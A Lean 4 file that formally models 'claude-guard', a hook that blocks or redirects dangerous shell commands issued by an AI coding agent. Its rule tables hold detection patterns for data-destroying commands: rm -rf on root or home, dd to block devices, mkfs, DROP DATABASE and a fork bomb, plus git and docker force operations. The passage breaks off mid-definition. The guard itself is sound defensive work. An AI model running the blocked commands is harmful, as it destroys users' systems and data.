import Mathlib

/-!
Verification development for the claude-guard command guard.

The Python sources are embedded shallowly: strings are `List Char`, each
Python function becomes an executable Lean definition of the same name, and
the regular expressions used by the rule tables are embedded through a small
regex core (`RE`) whose search semantics ("does a match exist, and which end
positions are reachable") mirrors the subset of Python `re` syntax the guard
uses: literals, character classes, `\s` `\w` `\b`, `.`, `*` `+` `?`,
alternation, non-capturing groups, negative lookahead, `$`, and the
`re.IGNORECASE` flag.
-/

namespace ClaudeGuard

/-- Python `\s` / `str.strip()` whitespace set (ASCII). -/
def pySpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

/-- Python `\w` word characters (ASCII): letters, digits, underscore. -/
def pyWord (c : Char) : Bool :=
  (('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') || c = '_')

/-- Horizontal whitespace, the set matched by `[ \t]` in `normalize.py`. -/
def horizWs (c : Char) : Bool :=
  c = ' ' || c = '\t'

/-- Regex core: the subset of Python `re` syntax used by the guard's rules. -/
inductive RE where
  | eps : RE
  | lit : Char → RE
  | cls : Bool → List Char → List (Char × Char) → RE
  | anyc : RE
  | seq : RE → RE → RE
  | alt : RE → RE → RE
  | star : RE → RE
  | plus : RE → RE
  | opt : RE → RE
  | nla : RE → RE
  | eol : RE
  | wb : RE
deriving Repr, DecidableEq

/-- Character comparison under the optional `re.IGNORECASE` flag (ASCII fold). -/
def chEq (ic : Bool) (a b : Char) : Bool :=
  if ic then a.toLower = b.toLower else a = b

/-- Membership of a character in a class `[...]`/`[^...]`, honoring IGNORECASE
the way Python does (the character or one of its case variants is in the set). -/
def clsMem (ic : Bool) (neg : Bool) (singles : List Char) (ranges : List (Char × Char))
    (c : Char) : Bool :=
  let inSet := fun (x : Char) =>
    singles.contains x || ranges.any (fun r => r.1 ≤ x && x ≤ r.2)
  let m := if ic then inSet c || inSet c.toLower || inSet c.toUpper else inSet c
  if neg then !m else m

/-- Append the elements of `xs` that are not already present in `cur`. -/
def addNew (cur xs : List Nat) : List Nat :=
  xs.foldl (fun acc x => if acc.contains x then acc else acc ++ [x]) cur

/-- Reflexive-transitive closure of the step function `f` on positions,
computed by saturation (used for `*` and `+`; `fuel` bounds the iterations,
one per distinct reachable position suffices). -/
def starEnds (f : Nat → List Nat) : Nat → List Nat → List Nat
  | 0, cur => cur
  | fuel + 1, cur =>
      let nxt := addNew cur (cur.flatMap f)
      if nxt.length = cur.length then cur else starEnds f fuel nxt

/-- All end positions of a match of `re` starting at position `p` of `s`.
A match exists at `p` iff the result is nonempty. `ic` is IGNORECASE. -/
def matchEnds (ic : Bool) (s : List Char) : RE → Nat → List Nat
  | .eps, p => [p]
  | .lit c, p =>
      match s.get? p with
      | some d => if chEq ic d c then [p + 1] else []
      | none => []
  | .cls n cs rs, p =>
      match s.get? p with
      | some d => if clsMem ic n cs rs d then [p + 1] else []
      | none => []
  | .anyc, p =>
      match s.get? p with
      | some d => if d = '\n' then [] else [p + 1]
      | none => []
  | .seq a b, p =>
      (((matchEnds ic s a p).eraseDups).flatMap (fun q => matchEnds ic s b q)).eraseDups
  | .alt a b, p => (matchEnds ic s a p ++ matchEnds ic s b p).eraseDups
  | .star a, p => starEnds (fun q => matchEnds ic s a q) (s.length + 2) [p]
  | .plus a, p =>
      (((matchEnds ic s a p).eraseDups).flatMap
        (fun q => starEnds (fun r => matchEnds ic s a r) (s.length + 2) [q])).eraseDups
  | .opt a, p => (p :: matchEnds ic s a p).eraseDups
  | .nla a, p => if (matchEnds ic s a p).isEmpty then [p] else []
  | .eol, p =>
      if p = s.length || (p + 1 = s.length && s.get? p = some '\n') then [p] else []
  | .wb, p =>
      let prevW := match p with
        | 0 => false
        | q + 1 => match s.get? q with | some d => pyWord d | none => false
      let nextW := match s.get? p with | some d => pyWord d | none => false
      if prevW != nextW then [p] else []

/-- `re.search` truthiness: does `re` match anywhere in `s`? -/
def research (re : RE) (s : List Char) (ic : Bool) : Bool :=
  (List.range (s.length + 1)).any (fun p => !(matchEnds ic s re p).isEmpty)

/-! Constructors for transcribing the pattern strings. -/

/-- A literal string of regex characters. -/
def rstr (s : String) : RE :=
  s.data.foldr (fun c r => RE.seq (.lit c) r) .eps

/-- Concatenation of a list of regex pieces. -/
def rcat (l : List RE) : RE :=
  l.foldr RE.seq .eps

/-- Alternation `a|b|...` over a nonempty list. -/
def ralt (l : List RE) : RE :=
  match l with
  | [] => .eps
  | [a] => a
  | a :: rest => RE.alt a (ralt rest)

/-- `\s` as a class. -/
def wsC : RE := .cls false [' ', '\t', '\n', '\r', '\x0b', '\x0c'] []

/-- `\s+`. -/
def wsP : RE := .plus wsC

/-- `\s*`. -/
def wsS : RE := .star wsC

/-- `\w` as a class. -/
def wdC : RE := .cls false ['_'] [('a', 'z'), ('A', 'Z'), ('0', '9')]

/-- `[a-zA-Z]`. -/
def alphaC : RE := .cls false [] [('a', 'z'), ('A', 'Z')]

/-- `[a-z]`. -/
def lowerC : RE := .cls false [] [('a', 'z')]

/-- `[rR]`. -/
def rRC : RE := .cls false ['r', 'R'] []

/-- `.*`. -/
def dotStar : RE := .star .anyc

end ClaudeGuard

namespace ClaudeGuard

/-!
## `command-guard.py`

The three rule tables, transcribed pattern by pattern, and the decision path
of `main` (which matches every table against the raw command text with
`re.IGNORECASE`, allowlist first, then Tier 1, then Tier 2).
-/

/-- `rm\s+-[a-zA-Z]*[rR][a-zA-Z]*f[a-zA-Z]*`, the combined-flag recursive
delete prefix repeated throughout the tables (r before f). -/
def rmRfLong : RE :=
  rcat [rstr "rm", wsP, .lit '-', .star alphaC, rRC, .star alphaC, .lit 'f', .star alphaC]

/-- `rm\s+-[a-zA-Z]*f[a-zA-Z]*[rR][a-zA-Z]*` (f before r). -/
def rmFrLong : RE :=
  rcat [rstr "rm", wsP, .lit '-', .star alphaC, .lit 'f', .star alphaC, rRC, .star alphaC]

/-- `(-[a-zA-Z]+\s+)*`, the separate-flag group. -/
def flagGroupStar : RE :=
  .star (rcat [.lit '-', .plus alphaC, wsP])

/-- Tier 1 table: `(regex, category, reason)`. -/
def TIER1_PATTERNS : List (RE × String × String) := [
  -- rm -rf on root: `rm\s+-…f…\s+/\s | … /\* | … /$` (rf and fr flag orders)
  (ralt [rcat [rmRfLong, wsP, .lit '/', wsC],
         rcat [rmFrLong, wsP, .lit '/', wsC],
         rcat [rmRfLong, wsP, .lit '/', .lit '*'],
         rcat [rmFrLong, wsP, .lit '/', .lit '*'],
         rcat [rmRfLong, wsP, .lit '/', .eol]],
   "filesystem",
   "rm -rf on root filesystem is CATASTROPHIC. This will NOT be executed."),
  -- rm -rf on home: `… ~/?\s | … ~/?\* | … ~/?$ | … \$HOME/?`
  (ralt [rcat [rmRfLong, wsP, .lit '~', .opt (.lit '/'), wsC],
         rcat [rmFrLong, wsP, .lit '~', .opt (.lit '/'), wsC],
         rcat [rmRfLong, wsP, .lit '~', .opt (.lit '/'), .lit '*'],
         rcat [rmFrLong, wsP, .lit '~', .opt (.lit '/'), .lit '*'],
         rcat [rmRfLong, wsP, .lit '~', .opt (.lit '/'), .eol],
         rcat [rmFrLong, wsP, .lit '~', .opt (.lit '/'), .eol],
         rcat [rmRfLong, wsP, .lit '$', rstr "HOME", .opt (.lit '/')],
         rcat [rmFrLong, wsP, .lit '$', rstr "HOME", .opt (.lit '/')]],
   "filesystem",
   "rm -rf on home directory is CATASTROPHIC. This will NOT be executed."),
  -- `dd\s+.*of=/dev/`
  (rcat [rstr "dd", wsP, dotStar, rstr "of=/dev/"],
   "disk",
   "dd to a block device can destroy disk partitions. This will NOT be executed."),
  -- `mkfs\.`
  (rstr "mkfs.",
   "disk",
   "mkfs formats a filesystem, destroying all data. This will NOT be executed."),
  -- `fdisk\s+/dev/`
  (rcat [rstr "fdisk", wsP, rstr "/dev/"],
   "disk",
   "fdisk modifies disk partition tables. This will NOT be executed."),
  -- `DROP\s+DATABASE`
  (rcat [rstr "DROP", wsP, rstr "DATABASE"],
   "database",
   "DROP DATABASE destroys an entire database. This will NOT be executed."),
  -- `DROP\s+SCHEMA`
  (rcat [rstr "DROP", wsP, rstr "SCHEMA"],
   "database",
   "DROP SCHEMA destroys an entire schema. This will NOT be executed."),
  -- fork bomb: `:\(\)\s*\{\s*:\|:\s*&\s*\}\s*;|fork\s+while\s+fork|while\s+true\s*;\s*do\s+fork`
  (ralt [rcat [rstr ":()", wsS, .lit '\x7b', wsS, rstr ":|:", wsS, .lit '&', wsS,
               .lit '\x7d', wsS, .lit ';'],
         rcat [rstr "fork", wsP, rstr "while", wsP, rstr "fork"],
         rcat [rstr "while", wsP, rstr "true", wsS, .lit ';', wsS, rstr "do", wsP, rstr "fork"]],
   "shell",
   "Fork bomb / shell DoS detected. This will NOT be executed."),
  -- `kubectl\s+delete\s+namespace`
  (rcat [rstr "kubectl", wsP, rstr "delete", wsP, rstr "namespace"],
   "kubernetes",
   "Deleting a Kubernetes namespace destroys all resources in it. This will NOT be executed."),
  -- `kubectl\s+delete\s+--all`
  (rcat [rstr "kubectl", wsP, rstr "delete", wsP, rstr "--all"],
   "kubernetes",
   "kubectl delete --all removes all resources of that type. This will NOT be executed.")
]

/-- Tier 2 table: `(regex, category, reason, alternative)`. -/
def TIER2_PATTERNS : List (RE × String × String × String) := [
  -- `git\s+push\s+.*--force(?![-a-z])`
  (rcat [rstr "git", wsP, rstr "push", wsP, dotStar, rstr "--force",
         .nla (.cls false ['-'] [('a', 'z')])],
   "git",
   "Force push can destroy remote history.",
   "Use --force-with-lease instead: it fails if someone else pushed."),
  -- `git\s+push\s+.*-f\b`
  (rcat [rstr "git", wsP, rstr "push", wsP, dotStar, rstr "-f", .wb],
   "git",
   "Force push (-f) can destroy remote history.",
   "Use --force-with-lease instead: it fails if someone else pushed."),
  -- `git\s+reset\s+--hard`
  (rcat [rstr "git", wsP, rstr "reset", wsP, rstr "--hard"],
   "git",
   "git reset --hard destroys uncommitted changes.",
   "Use 'git stash' first to save changes, then reset."),
  -- `git\s+reset\s+--merge`
  (rcat [rstr "git", wsP, rstr "reset", wsP, rstr "--merge"],
   "git",
   "git reset --merge can lose uncommitted changes.",
   "Use 'git stash' first to save changes, then reset."),
  -- `git\s+checkout\s+--\s+\.`
  (rcat [rstr "git", wsP, rstr "checkout", wsP, rstr "--", wsP, .lit '.'],
   "git",
   "git checkout -- . discards all uncommitted changes.",
   "Use 'git stash' to save changes, or 'git diff' to review first."),
  -- `git\s+checkout\s+--\s+`
  (rcat [rstr "git", wsP, rstr "checkout", wsP, rstr "--", wsP],
   "git",
   "git checkout -- <path> discards uncommitted changes to that path.",
   "Use 'git stash' first, or 'git diff <path>' to review changes."),
  -- `git\s+restore\s+(?!--staged\b)(?!-S\b)(?!.*--staged)`
  (rcat [rstr "git", wsP, rstr "restore", wsP,
         .nla (rcat [rstr "--staged", .wb]),
         .nla (rcat [rstr "-S", .wb]),
         .nla (rcat [dotStar, rstr "--staged"])],
   "git",
   "git restore discards uncommitted changes.",
   "Use 'git restore --staged' to unstage, or 'git stash' to save changes."),
  -- `git\s+clean\s+-[a-z]*f`
  (rcat [rstr "git", wsP, rstr "clean", wsP, .lit '-', .star lowerC, .lit 'f'],
   "git",
   "git clean -f removes untracked files permanently.",
   "Run 'git clean -n' first (dry run) to see what would be removed."),
  -- `git\s+branch\s+-D\b`
  (rcat [rstr "git", wsP, rstr "branch", wsP, rstr "-D", .wb],
   "git",
   "git branch -D force-deletes without checking if the branch is merged.",
   "Use 'git branch -d' instead: it only deletes if the branch is merged."),
  -- `git\s+stash\s+drop`
  (rcat [rstr "git", wsP, rstr "stash", wsP, rstr "drop"],
   "git",
   "git stash drop permanently deletes a stashed change.",
   "Run 'git stash list' first to review what would be lost."),
  -- `git\s+stash\s+clear`
  (rcat [rstr "git", wsP, rstr "stash", wsP, rstr "clear"],
   "git",
   "git stash clear permanently deletes ALL stashed changes.",
   "Run 'git stash list' first to review what would be lost."),
  -- `git\s+commit\s+.*--no-verify`
  (rcat [rstr "git", wsP, rstr "commit", wsP, dotStar, rstr "--no-verify"],
   "git",
   "Skipping pre-commit hooks bypasses safety checks.",
   "Remove --no-verify and fix any hook failures instead."),
  -- `git\s+push\s+.*--no-verify`
  (rcat [rstr "git", wsP, rstr "push", wsP, dotStar, rstr "--no-verify"],
   "git",
   "Skipping pre-push hooks bypasses safety checks.",
   "Remove --no-verify and fix any hook failures instead."),
  -- `rm\s+-[a-zA-Z]*[rR][a-zA-Z]*f|rm\s+-[a-zA-Z]*f[a-zA-Z]*[rR]`
  (ralt [rcat [rstr "rm", wsP, .lit '-', .star alphaC, rRC, .star alphaC, .lit 'f'],
         rcat [rstr "rm", wsP, .lit '-', .star alphaC, .lit 'f', .star alphaC, rRC]],
   "filesystem",
   "rm -rf is destructive and irreversible.",
   "List the directory contents first, then ask the user to confirm deletion."),
  -- `rm\s+(-[a-zA-Z]+\s+)*-[rR]\s+(-[a-zA-Z]+\s+)*-f|rm\s+(-[a-zA-Z]+\s+)*-f\s+(-[a-zA-Z]+\s+)*-[rR]`
  (ralt [rcat [rstr "rm", wsP, flagGroupStar, .lit '-', rRC, wsP, flagGroupStar, rstr "-f"],
         rcat [rstr "rm", wsP, flagGroupStar, rstr "-f", wsP, flagGroupStar, .lit '-', rRC]],
   "filesystem",
   "rm with separate -r -f flags is destructive.",
   "List the directory contents first, then ask the user to confirm deletion."),
  -- `rm\s+.*--recursive.*--force|rm\s+.*--force.*--recursive`
  (ralt [rcat [rstr "rm", wsP, dotStar, rstr "--recursive", dotStar, rstr "--force"],
         rcat [rstr "rm", wsP, dotStar, rstr "--force", dotStar, rstr "--recursive"]],
   "filesystem",
   "rm --recursive --force is destructive.",
   "List the directory contents first, then ask the user to confirm deletion."),
  -- `docker\s+system\s+prune`
  (rcat [rstr "docker", wsP, rstr "system", wsP, rstr "prune"],
   "docker",
   "docker system prune removes unused containers, networks, images, and optionally volumes.",
   "Run 'docker system prune --dry-run' first to see what would be removed."),
  -- `docker\s+rm\s+-f|docker\s+rm\s+--force`
  (ralt [rcat [rstr "docker", wsP, rstr "rm", wsP, rstr "-f"],
         rcat [rstr "docker", wsP, rstr "rm", wsP, rstr "--force"]],
   "docker",
   "docker rm -f force-removes running containers.",
   "Use 'docker stop' first, then 'docker rm' without --force."),
  -- `docker\s+volume\s+rm`
  (rcat [rstr "docker", wsP, rstr "volume", wsP, rstr "rm"],
   "docker",
   "docker volume rm permanently deletes volume data.",
   "Run 'docker volume ls' first to review, and confirm with the user."),
  -- `docker\s+network\s+rm`
  (rcat [rstr "docker", wsP, rstr "network", wsP, rstr "rm"],
   "docker",
   "docker network rm removes a network and disconnects containers.",
   "Run 'docker network ls' first to review, and confirm with the user."),
  -- `docker\s+compose\s+down\s+.*-v|docker-compose\s+down\s+.*-v`
  (ralt [rcat [rstr "docker", wsP, rstr "compose", wsP, rstr "down", wsP, dotStar, rstr "-v"],
         rcat [rstr "docker-compose", wsP, rstr "down", wsP, dotStar, rstr "-v"]],
   "docker",
   "docker compose down -v destroys all named volumes.",
   "Use 'docker compose down' without -v to preserve volume data."),
  -- `docker\s+rmi\s+-f|docker\s+rmi\s+--force`
  (ralt [rcat [rstr "docker", wsP, rstr "rmi", wsP, rstr "-f"],
         rcat [rstr "docker", wsP, rstr "rmi", wsP, rstr "--force"]],
   "docker",
   "docker rmi -f force-removes images even if containers use them.",
   "Use 'docker rmi' without --force for safe removal."),
  -- `chmod\s+777\b|chmod\s+-R\s+777\b|chmod\s+.*777\b`
  (ralt [rcat [rstr "chmod", wsP, rstr "777", .wb],
         rcat [rstr "chmod", wsP, rstr "-R", wsP, rstr "777", .wb],
         rcat [rstr "chmod", wsP, dotStar, rstr "777", .wb]],
   "permissions",
   "chmod 777 makes files world-readable, writable, and executable.",
   "Use specific permissions: 755 for directories, 644 for files."),
  -- `DROP\s+TABLE`
  (rcat [rstr "DROP", wsP, rstr "TABLE"],
   "database",
   "DROP TABLE permanently removes a table and its data.",
   "Add IF EXISTS and confirm the table name with the user first."),
  -- `TRUNCATE\s+`
  (rcat [rstr "TRUNCATE", wsP],
   "database",
   "TRUNCATE removes all rows from a table.",
   "Use DELETE with a WHERE clause for targeted removal, or confirm with the user."),
  -- `DELETE\s+FROM\s+\w+\s*;|DELETE\s+FROM\s+\w+\s*$`
  (ralt [rcat [rstr "DELETE", wsP, rstr "FROM", wsP, .plus wdC, wsS, .lit ';'],
         rcat [rstr "DELETE", wsP, rstr "FROM", wsP, .plus wdC, wsS, .eol]],
   "database",
   "DELETE FROM without WHERE removes all rows.",
   "Add a WHERE clause, or confirm with the user that all rows should be deleted."),
  -- `kubectl\s+delete\s+(?!namespace\b)(?!--all\b)`
  (rcat [rstr "kubectl", wsP, rstr "delete", wsP,
         .nla (rcat [rstr "namespace", .wb]), .nla (rcat [rstr "--all", .wb])],
   "kubernetes",
   "kubectl delete removes Kubernetes resources.",
   "Use 'kubectl delete --dry-run=client' first to preview, and confirm with the user.")
]

/-- Allowlist table: patterns that force Allow. -/
def SAFE_PATTERNS : List RE := [
  rcat [rstr "git", wsP, rstr "checkout", wsP, rstr "-b", wsP],
  rcat [rstr "git", wsP, rstr "checkout", wsP, rstr "--orphan", wsP],
  -- `git\s+restore\s+--staged\s+(?!.*--worktree)(?!.*-W\b)`
  rcat [rstr "git", wsP, rstr "restore", wsP, rstr "--staged", wsP,
        .nla (rcat [dotStar, rstr "--worktree"]), .nla (rcat [dotStar, rstr "-W", .wb])],
  rcat [rstr "git", wsP, rstr "restore", wsP, rstr "-S", wsP,
        .nla (rcat [dotStar, rstr "--worktree"]), .nla (rcat [dotStar, rstr "-W", .wb])],
  rcat [rstr "git", wsP, rstr "clean", wsP, rstr "-n"],
  rcat [rstr "git", wsP, rstr "clean", wsP, rstr "--dry-run"],
  rcat [rstr "git", wsP, rstr "push", wsP, dotStar, rstr "--force-with-lease"],
  rcat [rstr "git", wsP, rstr "push", wsP, dotStar, rstr "--force-if-includes"],
  -- rm -rf on temp directories
  rcat [rmRfLong, wsP, rstr "/tmp/"],
  rcat [rmFrLong, wsP, rstr "/tmp/"],
  rcat [rmRfLong, wsP, rstr "/var/tmp/"],
  rcat [rmFrLong, wsP, rstr "/var/tmp/"],
  rcat [rmRfLong, wsP, .lit '$', rstr "TMPDIR/"],
  rcat [rmFrLong, wsP, .lit '$', rstr "TMPDIR/"],
  rcat [rmRfLong, wsP, .lit '$', .lit '\x7b', rstr "TMPDIR"],
  rcat [rmFrLong, wsP, .lit '$', .lit '\x7b', rstr "TMPDIR"],
  rcat [rmRfLong, wsP, .lit '"', .lit '$', rstr "TMPDIR/"],
  rcat [rmFrLong, wsP, .lit '"', .lit '$', rstr "TMPDIR/"],
  rcat [rmRfLong, wsP, .lit '"', .lit '$', .lit '\x7b', rstr "TMPDIR"],
  rcat [rmFrLong, wsP, .lit '"', .lit '$', .lit '\x7b', rstr "TMPDIR"],
  -- separate flags on temp directories
  rcat [rstr "rm", wsP, flagGroupStar, .lit '-', rRC, wsP, flagGroupStar, rstr "-f", wsP, rstr "/tmp/"],
  rcat [rstr "rm", wsP, flagGroupStar, rstr "-f", wsP, flagGroupStar, .lit '-', rRC, wsP, rstr "/tmp/"],
  rcat [rstr "rm", wsP, flagGroupStar, .lit '-', rRC, wsP, flagGroupStar, rstr "-f", wsP, rstr "/var/tmp/"],
  rcat [rstr "rm", wsP, flagGroupStar, rstr "-f", wsP, flagGroupStar, .lit '-', rRC, wsP, rstr "/var/tmp/"],
  rcat [rstr "rm", wsP, dotStar, rstr "--recursive", dotStar, rstr "--force", wsP, rstr "/tmp/"],
  rcat [rstr "rm", wsP, dotStar, rstr "--force", dotStar, rstr "--recursive", wsP, rstr "/tmp/"],
  rcat [rstr "rm", wsP, dotStar, rstr "--recursive", dotStar, rstr "--force", wsP, rstr "/var/tmp/"],
  rcat [rstr "rm", wsP, dotStar, rstr "--force", dotStar, rstr "--recursive", wsP, rstr "/var/tmp/"],
  rcat [rstr "docker", wsP, rstr "system", wsP, rstr "prune", wsP, dotStar, rstr "--dry-run"],
  rcat [rstr "kubectl", wsP, rstr "delete", wsP, dotStar, rstr "--dry-run"],
  rcat [rstr "DROP", wsP, rstr "TABLE", wsP, rstr "IF", wsP, rstr "EXISTS", dotStar,
        rstr "--", dotStar, rstr "test"],
  rcat [rstr "CREATE", wsP, dotStar, rstr "DROP"]
]

/-- The three decision outcomes of `main`. -/
inductive Decision where
  | allow
  | denyHard (category reason : String)
  | denyRedirect (category reason alternative : String)
deriving Repr, DecidableEq

/-- The rule-matching portion of `main`: allowlist first (any match allows),
then Tier 1 (first match hard-denies), then Tier 2 (first match
deny-redirects), default Allow. Every table is matched against the raw
command text with `re.IGNORECASE`. -/
def guardDecision (command : List Char) : Decision :=
  if SAFE_PATTERNS.any (fun p => research p command true) then .allow
  else
    match TIER1_PATTERNS.find? (fun r => research r.1 command true) with
    | some r => .denyHard r.2.1 r.2.2
    | none =>
      match TIER2_PATTERNS.find? (fun r => research r.1 command true) with
      | some r => .denyRedirect r.2.1 r.2.2.1 r.2.2.2
      | none => .allow

end ClaudeGuard

namespace ClaudeGuard

/-!
## `main`'s I/O behavior

`main` reads one JSON document; on parse failure, a non-Bash tool, or a
missing/empty/non-string command it exits 0 with no output (fail open).
Otherwise it runs the rule tables and prints a deny document when a rule
fires.
-/

/-- A JSON value as far as `main` inspects one: a string, or anything else. -/
inductive JVal where
  | jstr (s : String)
  | jnonstr
deriving Repr, DecidableEq

/-- The parsed input document, restricted to the fields `main` reads:
`tool_name` and the `command` entry of `tool_input`. -/
structure HookDoc where
  tool_name : Option JVal
  tool_input : Option (List (String × JVal))
deriving Repr, DecidableEq

/-- One invocation's stdin: either unparseable JSON or a parsed document. -/
inductive GuardInput where
  | malformed
  | ok (d : HookDoc)
deriving Repr, DecidableEq

/-- What `main` does: exit silently (the command proceeds) or print a deny
document whose `permissionDecisionReason` is the given formatted string. -/
inductive HookOutcome where
  | proceed
  | denyDoc (reason : String)
deriving Repr, DecidableEq

/-- `format_tier1_deny`. -/
def format_tier1_deny (reason command : String) : String :=
  "BLOCKED by claude-guard (Tier 1: Hard Deny)\n\nReason: " ++ reason ++
  "\n\nCommand: " ++ command ++
  "\n\nThis command must be run manually by the user if truly needed."

/-- `format_tier2_deny`. -/
def format_tier2_deny (reason alternative command : String) : String :=
  "BLOCKED by claude-guard (Tier 2: Safer Alternative Available)\n\nReason: " ++ reason ++
  "\n\nCommand: " ++ command ++
  "\n\nAlternative: " ++ alternative

/-- `main`: parse failure exits silently; `tool_name` must be the string
"Bash", the command must be a nonempty string (a missing `tool_input` or
`command` key defaults to `""`); then the tables run. -/
def main_run : GuardInput → HookOutcome
  | .malformed => .proceed
  | .ok d =>
    let command : JVal := ((d.tool_input.getD []).lookup "command").getD (.jstr "")
    match command with
    | .jnonstr => .proceed
    | .jstr c =>
      if d.tool_name ≠ some (.jstr "Bash") ∨ c = "" then .proceed
      else
        match guardDecision c.data with
        | .allow => .proceed
        | .denyHard _ r => .denyDoc (format_tier1_deny r c)
        | .denyRedirect _ r a => .denyDoc (format_tier2_deny r a c)

end ClaudeGuard

namespace ClaudeGuard

/-!
## `guard/classify.py`

Region scanning, context classification, and execution-bridge detection.
-/

/-- Python `str.strip()`. -/
def pyStrip (s : List Char) : List Char :=
  ((s.dropWhile pySpace).reverse.dropWhile pySpace).reverse

/-- Python `str.rstrip()`. -/
def pyRstrip (s : List Char) : List Char :=
  (s.reverse.dropWhile pySpace).reverse

/-- Python `str.split()`: split on whitespace runs, dropping empty parts.
The fuel only guards termination (each step consumes at least one
character); callers pass `length + 1`. -/
def splitWs : Nat → List Char → List (List Char)
  | 0, _ => []
  | fuel + 1, s =>
    match s.dropWhile pySpace with
    | [] => []
    | c :: rest =>
        (c :: rest.takeWhile (fun x => !pySpace x)) ::
          splitWs fuel (rest.dropWhile (fun x => !pySpace x))

end ClaudeGuard

namespace ClaudeGuard

/-- `_SAFE_WRAPPERS`: commands whose arguments are data, not code. -/
def _SAFE_WRAPPERS : List (List Char) :=
  ["echo".data, "printf".data, "cat".data, "grep".data, "egrep".data, "fgrep".data,
   "rg".data, "ag".data, "sed".data, "awk".data, "head".data, "tail".data,
   "less".data, "more".data, "wc".data, "tee".data, "sort".data, "uniq".data,
   "cut".data, "tr".data, "xargs".data, "test".data, "[".data]

/-- `command.find("'", i)`: index of the first single quote at or after
`i`. The fuel only guards termination; callers pass `length + 1`. -/
def sqFind (cmd : List Char) : Nat → Nat → Option Nat
  | 0, _ => none
  | fuel + 1, i =>
    if h : i < cmd.length then
      if cmd.get ⟨i, h⟩ = '\'' then some i else sqFind cmd fuel (i + 1)
    else none

/-- `sqFind` only returns in-range positions at or after its start. -/
theorem sqFind_spec (cmd : List Char) :
    ∀ fuel i e, sqFind cmd fuel i = some e → i ≤ e ∧ e < cmd.length := by
  intro fuel
  induction fuel with
  | zero => intro i e he; exact absurd he (by simp [sqFind])
  | succ fuel ih =>
      intro i e he
      rw [sqFind] at he
      by_cases h : i < cmd.length
      · rw [dif_pos h] at he
        by_cases hq : cmd.get ⟨i, h⟩ = '\''
        · rw [if_pos hq] at he
          cases he
          omega
        · rw [if_neg hq] at he
          have := ih (i + 1) e he
          omega
      · rw [dif_neg h] at he
        exact Option.noConfusion he

/-- The inner `while` loop of `find_quoted_regions` for a double quote:
advance by 2 over a backslash, stop at `"` or the end. The fuel only
guards termination; callers pass `length + 1`. -/
def dqScan (cmd : List Char) : Nat → Nat → Nat
  | 0, j => j
  | fuel + 1, j =>
    if h : j < cmd.length then
      if cmd.get ⟨j, h⟩ = '\\' then dqScan cmd fuel (j + 2)
      else if cmd.get ⟨j, h⟩ = '"' then j
      else dqScan cmd fuel (j + 1)
    else j

/-- `dqScan` never moves backwards. -/
theorem dqScan_ge (cmd : List Char) :
    ∀ fuel j, j ≤ dqScan cmd fuel j := by
  intro fuel
  induction fuel with
  | zero => intro j; simp [dqScan]
  | succ fuel ih =>
      intro j
      rw [dqScan]
      by_cases h : j < cmd.length
      · rw [dif_pos h]
        by_cases hb : cmd.get ⟨j, h⟩ = '\\'
        · rw [if_pos hb]
          have := ih (j + 2)
          omega
        · rw [if_neg hb]
          by_cases hq : cmd.get ⟨j, h⟩ = '"'
          · rw [if_pos hq]
          · rw [if_neg hq]
            have := ih (j + 1)
            omega
      · rw [dif_neg h]

/-- `dqScan` overshoots the end of the string by at most one position
(the backslash skip can jump from `len - 1` to `len + 1`). -/
theorem dqScan_le (cmd : List Char) :
    ∀ fuel j, j ≤ cmd.length + 1 → dqScan cmd fuel j ≤ cmd.length + 1 := by
  intro fuel
  induction fuel with
  | zero => intro j hj; simpa [dqScan] using hj
  | succ fuel ih =>
      intro j hj
      rw [dqScan]
      by_cases h : j < cmd.length
      · rw [dif_pos h]
        by_cases hb : cmd.get ⟨j, h⟩ = '\\'
        · rw [if_pos hb]
          exact ih (j + 2) (by omega)
        · rw [if_neg hb]
          by_cases hq : cmd.get ⟨j, h⟩ = '"'
          · rw [if_pos hq]
            omega
          · rw [if_neg hq]
            exact ih (j + 1) (by omega)
      · rw [dif_neg h]
        exact hj

/-- The scan loop of `find_quoted_regions`, from position `i`. The fuel
only guards termination (each step advances at least one position);
callers pass `length + 1`. -/
def fqrAux (cmd : List Char) : Nat → Nat → List (Nat × Nat × Char)
  | 0, _ => []
  | fuel + 1, i =>
    if h : i < cmd.length then
      if cmd.get ⟨i, h⟩ = '\'' then
        let e := (sqFind cmd (cmd.length + 1) (i + 1)).getD cmd.length
        (i, e + 1, '\'') :: fqrAux cmd fuel (e + 1)
      else if cmd.get ⟨i, h⟩ = '"' then
        let j := dqScan cmd (cmd.length + 1) (i + 1)
        (i, j + 1, '"') :: fqrAux cmd fuel (j + 1)
      else fqrAux cmd fuel (i + 1)
    else []

/-- `find_quoted_regions`: all quoted regions `(start, end, quote_char)`. -/
def find_quoted_regions (command : List Char) : List (Nat × Nat × Char) :=
  fqrAux command (command.length + 1) 0

/-- `find_comment_start`: position of the first `#` outside every quoted
region, if any. -/
def find_comment_start (command : List Char)
    (quoted : List (Nat × Nat × Char)) : Option Nat :=
  (List.range command.length).find? (fun i =>
    (command.get? i == some '#') &&
      !(quoted.any (fun r => r.1 ≤ i && i < r.2.1)))

/-- `_preceding_context`: the text before `pos`, right-stripped. -/
def _preceding_context (command : List Char) (pos : Nat) : List Char :=
  pyRstrip (command.take pos)

/-- `_VAR_ASSIGNMENT.search`: does the text end with `NAME=` for an
identifier `NAME` (`[A-Za-z_][A-Za-z0-9_]*=$`)? -/
def varAssignmentSearch (p : List Char) : Bool :=
  match p.getLast? with
  | some '=' =>
      ((p.dropLast.reverse.takeWhile pyWord).any
        (fun c => ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || c = '_'))
  | _ => false

/-- `str.rfind(sub)`: the highest index at which `sub` occurs, if any. -/
def rfindSub (s sub : List Char) : Option Nat :=
  ((List.range (s.length + 1)).filter (fun i => sub.isPrefixOf (s.drop i))).getLast?

/-- `s.endswith(suf)`. -/
def endsWith (s suf : List Char) : Bool :=
  suf.isSuffixOf s

/-- The segment computation inside `is_safe_wrapper_arg` (lines 137-157):
find the current command segment via the nearest separator, take its first
word, and strip any path prefix. -/
def segment_first_word (command : List Char) (pos : Nat) : List Char :=
  let preceding := _preceding_context command pos
  let fromSep := fun (sep : List Char) =>
    match rfindSub preceding sep with
    | some l => l + sep.length
    | none => 0
  let segment_start :=
    max (max (max (fromSep " && ".data) (fromSep " || ".data)) (fromSep "; ".data))
      (match rfindSub preceding " | ".data with
       | some l => l + 3
       | none => 0)
